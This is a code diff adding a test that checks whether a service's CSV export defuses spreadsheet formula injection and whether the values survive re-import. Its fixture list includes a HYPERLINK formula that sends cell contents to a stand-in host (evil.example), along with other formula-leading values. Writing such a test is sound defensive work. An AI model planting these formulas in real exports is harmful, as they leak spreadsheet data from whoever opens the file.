@@ -4,6 +4,7 @@ import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
+import { parse } from 'csv-parse/sync'
 import { afterAll, expect, test } from 'vitest'
 import { startService } from '../support/service.ts'
 import { run as runCommand } from '../support/terminal.ts'
@@ -47,6 +48,31 @@ lines, ""quoted""",AT DE,50,{},null
   expect((await run(['import', file])).stdout).toBe('created 0, updated 0, unchanged 2, refused 0\n')
   const ofOne = await run(['export', 'quotas', '--format', 'csv', '--fields', 'user_id,limit', '--filter', 'user_id=8'])
   expect(ofOne.stdout).toBe('user_id,limit\n8,null\n')
+})
+
+test('texts of others are no formulas in CSV, and come back as they were', async () => {
+  const names = [
+    '=HYPERLINK("https://evil.example/?"&A1,"ok")',
+    '+49 30 1',
+    '-1+1',
+    '@SUM(A1)',
+    '\t=1',
+    "'=1",
+    'a;=1',
+    '-5',
+  ]
+  for (const [index, name] of names.entries()) {
+    const body = { user_id: 20, external_ref: `${name[0]}${index}`, limit: 5, name, metadata: { note: ';=1' } }
+    expect((await service.call('POST', '/api/sms/admin/quota', { body })).status).toBe(201)
+  }
+  const fields = 'user_id,external_ref,limit,name,metadata'
+  const csv = await run(['export', 'quotas', '--format', 'csv', '--fields', fields, '--filter', 'user_id=20'])
+  const cells = (parse(csv.stdout) as string[][]).flat()
+  expect(cells).toContain(`'${names[0]}`)
+  expect(cells.filter(cell => /^[=+\-@\t\r]/.test(cell))).toEqual([])
+  const file = join(folder, 'formulas.csv')
+  await writeFile(file, csv.stdout)
+  expect((await run(['import', file])).stdout).toBe(`created 0, updated 0, unchanged ${names.length}, refused 0\n`)
 })
 
 test('says what was wrong', async () => {
